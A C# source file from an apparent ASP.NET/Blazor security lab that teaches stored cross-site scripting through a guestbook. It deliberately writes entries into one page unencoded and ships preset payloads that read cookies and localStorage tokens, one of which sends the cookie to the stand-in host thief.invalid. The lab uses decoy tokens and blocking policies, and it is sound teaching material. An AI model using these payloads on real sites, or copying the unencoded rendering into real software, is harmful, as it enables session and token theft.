using NetEscapades.AspNetCore.SecurityHeaders;
using static BlazorJwt.Labs.KeepSafe.LabDocument;

namespace BlazorJwt.Labs.KeepSafe.Guestbook;

/// <summary>The pages of the lab "Injected markup". Two of them write the entry as it is: one under a policy with a hole, one under the app's own.</summary>
internal static class GuestbookDocuments
{
    private const string Script = """<script src="/labs/guestbook.js" type="module"></script>""";

    private const string TearOut = """<form method="post"><input type="hidden" name="entry" value=""><button>Tear it out</button></form>""";

    // Each with what it does.
    private static readonly (string Name, string Entry)[] Offers =
    [
        ("A script that reads the cookie", "<script>loot.textContent = document.cookie</script>"),
        ("A picture that fails, and reads localStorage and the cookie", "<img src=\"data:,\" alt=\"\" onerror=\"loot.textContent = localStorage.getItem('guestbook-token') + ' ' + document.cookie\">"),
        ("One that tries to send its loot away", "<script>fetch('https://thief.invalid/?' + document.cookie).catch(() => { loot.textContent = 'The policy let nothing out. Read all the same: ' + document.cookie })</script>"),
    ];

    /// <summary>On the lesson's host: where this leads.</summary>
    public static IResult Begin(string host, string address) => Page(
        "Injected markup",
        "A guestbook that writes every entry into its page as it is. You write a script, and see what it can read.",
        Card("Before you go", $"""
            <p>The guestbook stands at <strong>{Encoded(host)}</strong>, another site for your browser. Your sign-in does not reach there. Only you see what you write, and the tokens there are decoys: this app’s API refuses them.</p>
            <div class="actions"><a class="button primary" href="{Encoded(address)}">Go to the guestbook</a></div>
            """));

    /// <summary>Where the visitor writes. It shows the entry as a page should: as text.</summary>
    public static IResult Write(GuestbookRun run, DecoyTokens decoys) => Page(
        "Guestbook",
        "Write an entry. Then look at it in two pages that both forgot to encode it.",
        $"""
        {Card("Write", $"""
            <div class="actions">{string.Concat(Offers.Select(offer => $"<form method=\"post\"><input type=\"hidden\" name=\"entry\" value=\"{Encoded(offer.Entry)}\"><button>{Encoded(offer.Name)}</button></form>"))}</div>
            <form method="post" class="stack"><div class="fields"><label for="entry">Or your own, up to {GuestbookRun.LongestEntry} characters</label><textarea id="entry" name="entry" rows="4" maxlength="{GuestbookRun.LongestEntry}" spellcheck="false"></textarea></div><div class="actions"><button class="primary">Write it</button></div></form>
            """)}
        {Card("Written", $"""
            {(run.Entry is null
                ? "<p>Nothing yet.</p>"
                : $"<p>Here the entry is encoded, and is nothing but text. That is the cure.</p><pre class=\"big-token wide\" tabindex=\"0\" aria-label=\"Your entry\"><code>{Encoded(run.Entry)}</code></pre>{TearOut}")}
            """)}
        {Card("Look at it", """
            <div class="actions"><a class="button primary" href="/labs/guestbook/hole" target="_blank" rel="noopener">Open the page with the hole</a> <a class="button" href="/labs/guestbook/strict" target="_blank" rel="noopener">Open the same under the app’s policy</a></div>
            <p>Each opens in a tab of its own.</p>
            <p id="brought" role="status"></p>
            """)}
        <p><a href="{Encoded(run.Home)}/keep-it-safe">To the lesson</a></p>
        """,
        $"{DecoyNotes(decoys)}{Script}");

    /// <summary>Broken on purpose: the entry becomes markup, and inline scripts may run.</summary>
    public static IResult Hole(GuestbookRun run, HttpContext context) => Page(
        "The page with the hole",
        "It wrote your entry into the page as it is, and its policy allows inline scripts.",
        $"""
        {Card("Loot", """<p>Whatever the entry’s script could read, it writes here. Decoys only.</p><p id="loot" class="token big-token" role="status">Nothing yet.</p><p id="seen" role="status"></p>""")}
        {Card("What holds it in", """
            <p>Its content security policy allows no connection, no form, no frame, no other tab, pictures from within the page alone, and no script but
            your entry’s. It stops neither the name lookup of a frame nor WebRTC. The header <code>Connection-Allowlist</code> stops those too: in a
            browser that knows it, as a new Chromium (Chrome, Edge) does, no request leaves this page. In others a script of this page removes frames and
            WebRTC, and a clever entry can get around a script. That is why the tokens here are decoys. Close this tab to go back.</p>
            """)}
        {Entry(run)}
        """,
        $"{EntryScripts.Policy(run.Markup)}<script>{GuestbookWatch.Script}</script>",
        GuestbookWatch.Style(context.GetNonce()));

    /// <summary>The same mistake under the app's own policy: the entry becomes markup, and its script does not run.</summary>
    public static IResult Strict(GuestbookRun run) => Page(
        "The same under the app’s policy",
        "It made the same mistake with the same entry. The policy is the one of every page of this app: no inline script.",
        $"""
        {Card("Loot", """<p id="loot" class="token big-token" role="status">Nothing yet.</p>""")}
        {Card("What your browser reported", """<ul id="violations" role="status"></ul><p id="outcome" role="status">No violation so far.</p><p>The policy is the second line. The first is to encode what a visitor wrote, as Blazor does with every <code>@text</code>.</p><p class="sources">CSP Level 3 §5.1 · OWASP Cross Site Scripting Prevention Cheat Sheet</p>""")}
        {Entry(run)}
        """,
        """<script src="/labs/guestbook-report.js"></script>""" + Script);

    // As it is: this is the hole.
    private static string Entry(GuestbookRun run) => $"""
        <section class="card">
        <h2>The entry</h2>
        {(run.Entry is null ? "<p>Nothing is written yet.</p>" : $"<p>It stands here as markup. A script leaves nothing to see.</p><div>{run.Markup}</div>")}
        </section>
        """;

    private static string DecoyNotes(DecoyTokens decoys) => string.Concat(GuestbookRun.Decoys.Where(decoy => !GuestbookRun.HttpOnlyDecoys.ContainsKey(decoy.Key)).Select(decoy =>
        $"<meta name=\"decoy\" data-name=\"{Encoded(decoy.Value)}\" content=\"{Encoded(decoys.Make(decoy.Key))}\">"));
}
